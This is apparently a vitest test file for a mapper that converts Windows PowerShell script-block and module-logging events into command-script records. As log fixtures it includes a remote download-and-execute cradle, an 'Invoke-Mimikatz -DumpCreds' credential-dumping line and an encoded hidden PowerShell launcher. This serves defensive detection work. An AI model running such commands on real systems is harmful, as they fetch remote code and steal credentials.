import { describe, expect, it } from 'vitest';
import { mapRaw } from '../testing/map-records.ts';
import { guid, powershellEvent, sysmonProcessCreate } from '../testing/windows-events.ts';
import { MAX_SCRIPT_LENGTH } from './map-powershell.ts';

const launcher = sysmonProcessCreate({
  utc: '2024-03-01 10:00:00.000',
  processGuid: guid(4),
  pid: 4400,
  image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  commandLine: 'powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString($u)',
});

describe('mapPowerShellRecord', () => {
  it('maps a script block to Command Script, attributed by the execution pid', () => {
    const run = mapRaw([
      launcher,
      powershellEvent(4104, {
        timeCreated: '2024-03-01 10:00:01.000',
        ExecutionProcessID: 4400,
        ScriptBlockText: 'Invoke-Mimikatz -DumpCreds',
      }),
    ]);

    expect(run.mapped[1]?.type).toBe('Command Script');
    expect(run.mapped[1]?.fields).toEqual({ 'cmdScript.content': 'Invoke-Mimikatz -DumpCreds' });
    expect(run.mapped[1]?.src).toBe(run.mapped[0]?.tgt);
  });

  it('maps module logging payloads and finds the session by its host application', () => {
    const run = mapRaw([
      launcher,
      powershellEvent(4103, {
        timeCreated: '2024-03-01 10:00:02.000',
        ContextInfo:
          '        Severity = Informational\r\n        Host Application = powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString($u)\r\n        Command Name = Get-Process\r\n',
        Payload: 'CommandInvocation(Get-Process): "Get-Process"',
      }),
      powershellEvent(4104, { timeCreated: '2024-03-01 10:00:03.000', ScriptBlockText: 'whoami' }),
    ]);

    expect(run.mapped[1]?.fields).toEqual({
      'cmdScript.content': 'CommandInvocation(Get-Process): "Get-Process"',
    });
    expect(run.mapped[1]?.src).toBe(run.mapped[0]?.tgt);
    // A pid-less script block belongs to the session that logged just before it.
    expect(run.mapped[2]?.src).toBe(run.mapped[0]?.tgt);
  });

  it('learns the command line of a session started before the recording', () => {
    const run = mapRaw([
      powershellEvent(4103, {
        timeCreated: '2024-03-01 10:00:02.000',
        ExecutionProcessID: '3172',
        ContextInfo:
          'Host Application = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noP -sta -w 1 -enc SQBGAA\r\n',
        Payload: 'x',
      }),
    ]);

    expect(run.mapped[0]?.src).toMatchObject({
      pid: 3172,
      name: 'powershell.exe',
      imagePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      cmdline:
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noP -sta -w 1 -enc SQBGAA',
    });
  });

  it('truncates long scripts and says so', () => {
    const run = mapRaw([
      powershellEvent(4104, {
        timeCreated: '2024-03-01 10:00:00.000',
        ScriptBlockText: 'A'.repeat(100_000),
      }),
    ]);
    const content = String(run.mapped[0]?.fields['cmdScript.content']);

    expect(content).toHaveLength(MAX_SCRIPT_LENGTH);
    expect(content.endsWith(' [truncated]')).toBe(true);
  });

  it('ignores other PowerShell events and empty script blocks', () => {
    const run = mapRaw([
      {
        Channel: 'Windows PowerShell',
        EventID: 800,
        Hostname: 'H',
        TimeCreated: '2024-03-01 10:00:00',
      },
      powershellEvent(4104, { timeCreated: '2024-03-01 10:00:00.000', ScriptBlockText: '' }),
    ]);

    expect(run.outcomes).toEqual(['ignored', 'ignored']);
  });
});
